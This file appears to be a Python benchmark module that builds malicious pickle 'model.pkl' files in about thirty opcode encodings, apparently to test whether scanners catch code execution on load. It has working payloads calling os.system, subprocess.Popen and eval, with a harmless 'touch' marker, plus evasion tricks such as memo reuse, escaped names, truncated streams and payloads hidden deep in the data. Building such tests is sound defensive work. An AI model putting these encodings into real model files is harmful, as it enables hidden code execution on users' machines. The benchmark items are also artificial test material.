"""One attack in every way that opcodes can be written."""

from __future__ import annotations

import struct
from collections.abc import Iterator

from bartizan.bench.supplychain.assembler import blob, name, text, value, whole
from bartizan.bench.supplychain.attack import Build, Malicious, touch


def opcodes() -> Iterator[Malicious]:
    """All of them."""

    def of(identifier: str, build: Build, loader: str = "pickle") -> Malicious:
        return Malicious(f"opcode.{identifier}", loader, "model.pkl", build)

    for protocol in range(6):
        yield of(f"protocol{protocol}", lambda m, p=protocol: whole(touch(m, p), p))  # type: ignore[misc]
    yield of("framed", lambda m: whole(touch(m), framed=True))
    yield of("python_unpickler", lambda m: whole(touch(m), framed=True), "python")
    yield of("inst", lambda m: b"(" + text(f"touch {m}", 0) + b"ios\nsystem\n.")
    yield of("obj", lambda m: b"(cos\nsystem\n" + text(f"touch {m}", 0) + b"o.")
    yield of("newobj", lambda m: b"\x80\x02cio\nFileIO\n" + value((m, "w"), 2) + b"\x81" + b"0" + touch(m, 2) + b".")
    yield of(
        "newobj_ex",
        lambda m: whole(name("subprocess", "Popen") + value((["touch", m],)) + b"}\x92" + b"0" + touch(m)),
    )
    yield of("python2_builtin", lambda m: b"c__builtin__\neval\n" + value((f"open({m!r},'w')",), 0) + b"R.")
    yield of("python2_commands", lambda m: b"ccommands\ngetoutput\n" + value((f"touch {m}",), 0) + b"R.")
    yield of(
        "memo_names",
        lambda m: (
            b"\x80\x04"
            + text("os")
            + b"\x94"
            + text("system")
            + b"\x940"
            + b"0h\0h\1\x93"
            + value((f"touch {m}",))
            + b"R."
        ),
    )
    yield of(
        "memo_overwritten",
        lambda m: (
            b"\x80\x04"
            + text("math")
            + b"q\x000"
            + text("os")
            + b"q\x000h\x00"
            + text("system")
            + b"\x93"
            + value((f"touch {m}",))
            + b"R."
        ),
    )
    yield of(
        "memo_far",
        lambda m: (
            b"\x80\x04"
            + text("os")
            + b"r\xff\xff\x0f\x000"
            + b"j\xff\xff\x0f\x00"
            + text("system")
            + b"\x93"
            + value((f"touch {m}",))
            + b"R."
        ),
    )
    yield of("put_get_lines", lambda m: b"cos\nsystem\np99\n0g99\n" + value((f"touch {m}",), 0) + b"R.")
    yield of("dup", lambda m: b"\x80\x04" + name("os", "system") + b"20" + value((f"touch {m}",)) + b"R.")
    yield of("pop_mark", lambda m: b"\x80\x04(NNN1" + touch(m) + b".")
    yield of("mark_pop", lambda m: b"\x80\x04((0" + b"0" + touch(m) + b".")
    yield of(
        "long_int_name",
        lambda m: (
            b"\x80\x04X"
            + struct.pack("<I", 2)
            + b"os\x8d"
            + struct.pack("<Q", 6)
            + b"system\x93"
            + value((f"touch {m}",))
            + b"R."
        ),
    )
    yield of(
        "string_names",
        lambda m: b"\x80\x04S'os'\nT" + struct.pack("<I", 6) + b"system\x93" + value((f"touch {m}",)) + b"R.",
    )
    yield of("escaped_names", lambda m: b"\x80\x04S'\\x6fs'\nV\\u0073ystem\n\x93" + value((f"touch {m}",)) + b"R.")
    yield of(
        "protocol_changed", lambda m: b"\x80\x04\x80\x02c__builtin__\neval\n" + value((f"open({m!r},'w')",), 0) + b"R."
    )
    yield of("protocol_late", lambda m: b"N0\x80\x04" + touch(m) + b".")
    yield of("broken_after", lambda m: b"\x80\x04" + touch(m) + b"\xff\xff")
    yield of("no_stop", lambda m: b"\x80\x04" + touch(m))
    yield of("cut_argument", lambda m: b"\x80\x04" + touch(m) + b"X\xff\xff\xff\x7f")
    yield of("in_dict", lambda m: whole(value({"weights": touch(m), "bias": 1})))
    yield of("under_memo", lambda m: whole(value([0] * 2000) + b"\x940" + touch(m)))
    yield of("second_pickle", lambda m: whole(value([1, 2])) + whole(touch(m)), "rows")
    yield of("tenth_pickle", lambda m: whole(value([1])) * 9 + whole(touch(m)), "rows")
    yield of("large_before", lambda m: whole(blob(bytes(3 << 20)) + b"0" + touch(m)))
    yield of("many_opcodes", lambda m: whole(b"N0" * 50_000 + touch(m)))
